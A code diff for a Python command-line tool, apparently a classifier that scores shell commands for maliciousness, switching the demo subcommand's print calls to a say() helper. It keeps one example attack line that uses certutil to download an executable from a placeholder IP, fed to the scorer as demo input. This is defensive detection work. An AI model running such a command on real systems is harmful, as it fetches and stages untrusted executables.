@@ -5,6 +5,8 @@ from __future__ import annotations
 import argparse
 from pathlib import Path
 
+from cmdclf.cli._messages import say
+
 
 def add_arguments(parser: argparse.ArgumentParser) -> None:
     """Arguments of `cmdclf demo`."""
@@ -19,13 +21,13 @@ def run(args: argparse.Namespace) -> int:
 
     out = Path(args.out)
     results = run_demo(out, progress=not args.quiet)
-    print(_STORY.format(**results["data"], days=results["data"]["train_days"][2]))
-    print(arms_table(results))
-    print()
-    print(headline(results))
+    say(_STORY.format(**results["data"], days=results["data"]["train_days"][2]))
+    say(arms_table(results))
+    say()
+    say(headline(results))
     attack = "certutil -urlcache -f http://192.0.2.7/a.exe a.exe"
-    print(f"\nLook at   {out / 'report.html'}\nNumbers   {out / 'results.json'}\nModel     {out / 'model'}")
-    print(f"Try it    echo '{attack}' | cmdclf score --model {out / 'model'}")
+    say(f"\nLook at   {out / 'report.html'}\nNumbers   {out / 'results.json'}\nModel     {out / 'model'}")
+    say(f"Try it    echo '{attack}' | cmdclf score --model {out / 'model'}")
     return 0
 
 
